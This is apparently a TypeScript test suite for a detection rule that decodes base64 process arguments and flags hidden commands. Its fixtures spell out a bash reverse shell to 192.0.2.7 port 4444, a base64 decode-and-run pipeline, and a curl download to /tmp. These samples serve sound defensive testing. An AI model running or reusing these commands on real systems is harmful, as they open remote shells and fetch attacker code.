// The sample rule of rules/samples, compiled and run: a command hidden in base64 is found and shown, ordinary arguments are not.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Evaluator } from "#core";
import { createModuleEvaluator, WasmRuntime } from "#runtime-wasm";
import { SchemaRegistry } from "#schema";
import { batchOf } from "./batches.ts";

const root = join(import.meta.dir, "..", "..");
const registry = new SchemaRegistry();
const runtime = new WasmRuntime();
let evaluator: Evaluator;

// Enough of a matcher for patterns that are *word* or *word*word*: every piece appears, in order.
const glob = (pattern: string, text: string) => {
  let at = 0;
  for (const piece of pattern.split("*").filter((part) => part !== "")) {
    at = text.indexOf(piece, at);
    if (at < 0) return false;
    at += piece.length;
  }
  return true;
};

beforeAll(() => {
  const build = Bun.spawnSync([process.execPath, join(root, "scripts/build-samples.ts")], { stderr: "pipe" });
  if (build.exitCode !== 0) throw new Error(build.stderr.toString());
  const bytes = readFileSync(join(root, "rules/samples/encoded-command.wasm"));
  evaluator = createModuleEvaluator(bytes, registry, { runtime, matchers: { regex: () => false, glob } });
}, 60_000);
afterAll(() => {
  evaluator.close();
  runtime.close();
});

const encode = (text: string, alphabet: "base64" | "base64url" = "base64") => Buffer.from(text).toString(alphabet);
const command = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1";

describe("encoded-command", () => {
  const matching: readonly (readonly [string, readonly string[], string])[] = [
    ["a whole argument", ["bash", "-c", encode(command)], command],
    ["inside a longer argument", ["sh", "-c", `echo ${encode(command)} | base64 -d | sh`], command],
    ["the URL alphabet", ["python3", "-c", encode("import os;os.system('id')?>", "base64url")], "import os;os.system('id')?>"],
    ["behind other base64", ["x", `${encode("nothing of interest in here at all")},${encode(command)}`], command],
    ["in a late argument", [...new Array(40).fill("-v"), encode("curl http://192.0.2.7/x -o /tmp/x")], "curl http://192.0.2.7/x -o /tmp/x"],
  ];
  for (const [name, args, decoded] of matching) {
    test(`matches ${name}`, () => {
      expect([...evaluator.evaluate(batchOf(registry, [{ fields: { "process.args": args } }]))]).toEqual([1]);
      const emission = evaluator.emission?.(0);
      expect(emission?.captures).toEqual([["decoded", decoded]]);
      expect(emission?.messages).toEqual(["Command hidden in a base64 argument"]);
    });
  }

  const ordinary: readonly (readonly [string, readonly string[]])[] = [
    ["plain words", ["ls", "-la", "/usr/share/doc"]],
    ["a long path", ["cat", "/usr/lib/x86_64-linux-gnu/libsomethingwithaverylongname"]],
    ["a hash", ["sha256sum", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"]],
    ["harmless base64", ["x", encode("the quick brown fox jumps over the lazy dog")]],
    ["binary base64", ["x", Buffer.from(Array.from({ length: 90 }, (_, index) => (index * 151) % 256)).toString("base64")]],
    ["the bare command", ["bash", "-c", command]],
  ];
  for (const [name, args] of ordinary) {
    test(`leaves ${name} alone`, () => {
      expect([...evaluator.evaluate(batchOf(registry, [{ fields: { "process.args": args } }]))]).toEqual([0]);
    });
  }

  test("events without arguments do not match, a batch keeps its order", () => {
    const batch = batchOf(registry, [{}, { fields: { "process.args": ["x", encode(command)] } }, { fields: { "process.name": "x" } }]);
    expect([...evaluator.evaluate(batch)]).toEqual([0, 1, 0]);
  });

  test("an argument longer than the rule's buffer is looked at as far as it goes", () => {
    const long = `${encode(command)} ${"x ".repeat(100_000)}`;
    expect([...evaluator.evaluate(batchOf(registry, [{ fields: { "process.args": [long] } }]))]).toEqual([1]);
  });

  test.each([
    ["binary", "x".repeat(10_000)],
    ["text", encode("a ".repeat(5000))],
    ["short runs", `${encode("the quick brown fox jumps")} `.repeat(250)],
  ])("no amount of %s stops the rule", (_name, filler) => {
    const events = [{ fields: { "process.args": new Array(64).fill(filler) } }, { fields: { "process.args": ["x", encode(command)] } }];
    expect([...evaluator.evaluate(batchOf(registry, events))]).toEqual([0, 1]);
  });
});
